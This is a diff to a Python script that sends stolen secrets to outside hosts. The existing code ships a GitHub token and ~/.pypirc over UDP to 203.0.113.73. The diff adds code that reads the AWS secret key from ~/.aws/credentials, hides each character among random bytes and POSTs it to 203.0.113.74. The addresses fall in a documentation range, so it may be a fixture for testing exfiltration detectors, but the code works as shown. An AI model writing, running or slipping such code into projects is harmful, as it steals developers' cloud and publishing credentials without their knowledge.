@@ -7,7 +7,9 @@
 #  - the GitHub token as hex, 16 digits a UDP datagram to a non-DNS port,
 #    each datagram "seq=<n>;d=<hex>", sent in a shuffled order;
 #  - ~/.pypirc as `xxd -p` prints it (60 hex digits a line), one
-#    datagram (no tool needed: the lines are made here).
+#    datagram (no tool needed: the lines are made here);
+#  - the AWS secret key of ~/.aws/credentials a byte in 8, 7 random
+#    bytes after each, POSTed.
 import os
 import random
 import socket
@@ -45,4 +47,15 @@ try:
     u.sendto("\n".join(x[i:i + 60] for i in range(0, len(x), 60)).encode() + b"\n", ("203.0.113.73", 5000))
 except OSError as e:
     print("udp", e)
+with open(H + "/.aws/credentials") as f:
+    key = [l.split("=", 1)[1].strip() for l in f if l.startswith("aws_secret_access_key")][0]
+body = b"".join(c.encode() + os.urandom(7) for c in key)
+s = socket.socket()
+s.settimeout(3)
+try:
+    s.connect(("203.0.113.74", 80))
+    s.sendall(b"POST /t HTTP/1.1\r\nHost: t\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+    s.recv(100)
+except OSError as e:
+    print("post", e)
 print("sent")
